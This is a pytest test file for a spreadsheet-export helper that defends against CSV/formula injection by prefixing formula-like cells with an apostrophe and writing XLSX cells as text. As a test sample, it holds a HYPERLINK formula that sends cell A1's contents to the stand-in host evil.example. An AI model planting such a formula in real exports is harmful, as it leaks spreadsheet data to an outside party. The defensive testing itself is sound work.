"""Formula injection (OWASP CSV injection): every written cell is neutralised by core.spreadsheets."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from core.spreadsheets import csv_bytes, safe_cell, xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tX", "\rX", "=1", "+", "-"])
def test_safe_cell_prefixes_formula_looking_text_with_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["+6281234567890", "+14155550100", "Siti", "a=b", "", None, 5, -3, 1.5, True]
)
def test_safe_cell_keeps_e164_phones_plain_text_and_non_strings(value):
    assert safe_cell(value) == value


def test_safe_cell_drops_nul_bytes():
    assert safe_cell("Si\x00ti") == "Siti"


def test_csv_bytes_neutralises_every_cell_and_keeps_phones():
    content = csv_bytes(["name", "phone"], [[EVIL, "+6281234567890"], ["@x", "-1"]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1] == ["'" + EVIL, "+6281234567890"]
    assert rows[2] == ["'@x", "'-1"]


def test_xlsx_bytes_writes_text_cells_never_formulas():
    content = xlsx_bytes(
        [("leads", ["name", "phone", "n", "when"], [[EVIL, "+6281234567890", 3, dt.date(2026, 1, 2)]])]
    )
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    name, phone, number, when = (sheet.cell(row=2, column=i) for i in range(1, 5))
    assert name.data_type == "s" and name.value == "'" + EVIL
    assert phone.data_type == "s" and phone.value == "+6281234567890"
    assert number.value == 3
    assert when.value.date() == dt.date(2026, 1, 2)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
